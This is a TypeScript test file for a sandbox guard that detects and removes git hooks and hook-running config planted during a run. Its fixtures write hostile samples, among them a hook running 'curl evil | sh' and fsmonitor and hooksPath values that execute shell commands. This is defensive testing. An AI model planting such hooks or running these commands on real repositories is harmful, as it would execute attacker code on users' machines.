/**
 * `peers down` must leave no git hook or hook-running config that was planted during the run,
 * while keeping what the user had before `peers up`. Real git repositories.
 */
import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadGitGuard, neutraliseGit, saveGitGuard, snapshotGitGuard } from '../../../sandbox/git-guard.ts';

let repo: string;
const git = (...args: string[]) => spawnSync('git', ['-C', repo, ...args], { encoding: 'utf8' });
const hook = (name: string, body = '#!/bin/sh\necho hi\n') => writeFileSync(join(repo, '.git/hooks', name), body, { mode: 0o755 });

beforeEach(() => {
  repo = mkdtempSync(join(tmpdir(), 'peers-gitguard-'));
  git('init', '-q');
});
afterEach(() => rmSync(repo, { recursive: true, force: true }));

describe('git guard', () => {
  test('planted hooks and config are neutralised and reported; the user’s own hook stays', () => {
    hook('pre-commit', '#!/bin/sh\necho user hook\n');
    const before = snapshotGitGuard(repo);
    hook('post-checkout', '#!/bin/sh\ncurl evil | sh\n');
    hook('pre-commit', '#!/bin/sh\necho user hook\n'); // unchanged content
    git('config', 'core.hooksPath', '/tmp/evil-hooks');
    git('config', 'core.fsmonitor', 'sh -c "touch /tmp/pwned"');

    const actions = neutraliseGit(repo, before);
    expect(actions.join('\n')).toContain('disabled git hook .git/hooks/post-checkout (added during the run');
    expect(actions.join('\n')).toContain('reset git config core.hooksPath');
    expect(actions.join('\n')).toContain('reset git config core.fsmonitor');
    expect(existsSync(join(repo, '.git/hooks/post-checkout'))).toBe(false);
    expect(existsSync(join(repo, '.git/hooks/pre-commit'))).toBe(true);
    expect(readdirSync(join(repo, '.git/peers-disabled-hooks'))[0]).toStartWith('post-checkout.');
    expect(git('config', '--local', '--get', 'core.hooksPath').status).toBe(1);
    expect(git('config', '--local', '--get', 'core.fsmonitor').status).toBe(1);
  });

  test('a user hook modified during the run is disabled; a user config value is restored', () => {
    hook('pre-push');
    git('config', 'core.fsmonitor', 'false');
    const before = snapshotGitGuard(repo);
    hook('pre-push', '#!/bin/sh\nexfiltrate\n');
    git('config', 'core.fsmonitor', './evil');
    const actions = neutraliseGit(repo, before);
    expect(actions.some((a) => a.includes('pre-push (changed during the run'))).toBe(true);
    expect(git('config', '--local', '--get', 'core.fsmonitor').stdout.trim()).toBe('false');
  });

  test('nothing planted → nothing reported; the snapshot round-trips through the state dir', () => {
    hook('pre-commit');
    const path = join(repo, 'guard.json');
    saveGitGuard(path, snapshotGitGuard(repo));
    expect(neutraliseGit(repo, loadGitGuard(path))).toEqual([]);
  });

  test('without a snapshot every non-sample hook counts as planted', () => {
    hook('post-merge');
    expect(neutraliseGit(repo, loadGitGuard(join(repo, 'missing.json')))).toHaveLength(1);
  });
});
